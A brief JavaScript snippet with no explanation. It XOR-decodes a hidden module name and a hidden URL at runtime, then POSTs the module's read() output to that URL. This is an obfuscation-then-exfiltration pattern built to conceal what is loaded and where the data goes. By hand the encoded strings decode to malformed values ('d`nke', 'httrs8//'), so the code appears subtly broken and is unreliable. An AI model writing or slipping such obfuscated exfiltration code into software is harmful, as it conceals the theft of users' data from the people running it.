const key = 'abc';
const shown = (hex) => Buffer.from(hex, 'hex').map((c, i) => c ^ key.charCodeAt(i % 3)).toString();
const hidden = require(shown('05020d0a07'));
fetch(shown('09161713115b4e4d'), { method: 'POST', body: hidden.read() });
